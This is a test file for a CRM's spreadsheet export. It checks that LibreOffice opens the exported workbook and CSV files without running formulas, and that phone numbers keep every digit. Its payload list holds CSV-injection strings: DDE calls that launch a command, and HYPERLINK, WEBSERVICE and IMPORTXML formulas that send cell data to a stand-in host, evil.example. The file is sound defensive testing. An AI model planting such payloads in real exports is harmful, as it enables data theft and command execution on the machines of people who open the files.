import { createWriteStream, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { beforeAll, describe, expect, it } from "vitest";
import { type ExportFormat, formatRows, toColumns } from "../../src/export/export.ts";
import { tempDir } from "../helpers/temp.ts";
import { AS_TEXT, type Opened, openIn } from "./libreoffice.ts";

const NUMBERS = 10_000;
const COLUMNS = toColumns(["phone", "client", "project", "label", "contact"]);

const STARTS = ["", " ", "\t", "\n", "\u00a0", "\ufeff", "'", "''", '"', ","];
const SIGNS = ["=", "+", "-", "@", "＝"];
const BODIES = [
  "1+2",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  'WEBSERVICE("http://evil.example")',
  'DDE("soffice";"x";"y")',
  "SUM(A1:A9)*2",
  "2+5+cmd|' /C calc'!A0,\r\n=1+1",
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "79161234567",
  "A1;=1+1",
];
/** 500 texts that somebody could type into a CRM so that the exported file does something when it is opened. */
const PAYLOADS = STARTS.flatMap((start) =>
  SIGNS.flatMap((sign) => BODIES.map((body) => start + sign + body)),
);
/** Numbers of 7 to 17 digits: past what a spreadsheet's numbers hold exactly. */
const PHONES = Array.from(
  { length: NUMBERS },
  (_, at) => `+${(at % 9) + 1}${String(at).padStart(5, "0")}${"98765432101".slice(0, 1 + (at % 11))}`,
);
const ROWS = PHONES.map((phone, at) => {
  const payload = PAYLOADS[at] ?? "plain";
  return [phone, payload, "plain", payload, null];
});

let folder: string;
let book: Opened;
let csv: Opened;
let control: Opened;
let text: Opened;

async function write(name: string, format: ExportFormat): Promise<string> {
  const file = join(folder, name);
  await pipeline(Readable.from(formatRows(ROWS, COLUMNS, format, "pairs")), createWriteStream(file));
  return file;
}

// Vitest's own hook for cleaning up is for tests alone.
const cleaning: (() => void | Promise<void>)[] = [];

beforeAll(async () => {
  folder = tempDir((task) => void cleaning.push(task));
  const harmful = join(folder, "control.csv");
  writeFileSync(harmful, "a,b\r\n=1+2,+79161234567\r\n");
  const files = [await write("book.xlsx", "xlsx"), await write("plain.csv", "csv"), harmful];
  const opened = await openIn(folder, files);
  const texts = await openIn(folder, [await write("text.csv", "csv")], AS_TEXT);
  [book, csv, control, text] = [...opened, ...texts] as [Opened, Opened, Opened, Opened];
  for (const task of cleaning) await task();
}, 240_000);

const column = (opened: Opened, at: number) => opened.rows.slice(1, NUMBERS + 1).map((row) => row[at]);

describe("500 formulas and 10,000 numbers opened by LibreOffice", () => {
  it("are what they should be, and would be found", () => {
    expect([new Set(PAYLOADS).size, new Set(PHONES).size]).toEqual([500, NUMBERS]);
    expect(control).toMatchObject({ formulas: 1, values: 2 });
  });

  it("as a workbook are strings all of them, each as it was", () => {
    expect([book.formulas, book.values]).toEqual([0, 0]);
    expect(column(book, 0)).toEqual(PHONES);
    expect(column(book, 1).slice(0, 500).map(seen)).toEqual(PAYLOADS.map(seen));
  });

  it("as CSV are no formulas, even where it is opened without a care", () => {
    expect(csv.formulas).toBe(0);
    expect(csv.rows).toHaveLength(NUMBERS + 1);
  });

  it("as CSV read as text are as they were, less our apostrophe", () => {
    expect(text.formulas).toBe(0);
    expect(column(text, 0)).toEqual(PHONES);
    expect(column(text, 3).slice(0, 500).map(withoutOurs).map(seen)).toEqual(PAYLOADS.map(seen));
  });
});

function withoutOurs(cell = ""): string {
  return cell.replace(/^'(?='*\s*[=+\-@＝])/u, "");
}

/** LibreOffice has one kind of line end, and keeps no tab in a cell of several lines. */
function seen(cell = ""): string {
  const text = cell.replaceAll(/\r\n?/g, "\n");
  return text.includes("\n") ? text.replaceAll("\t", "") : text;
}
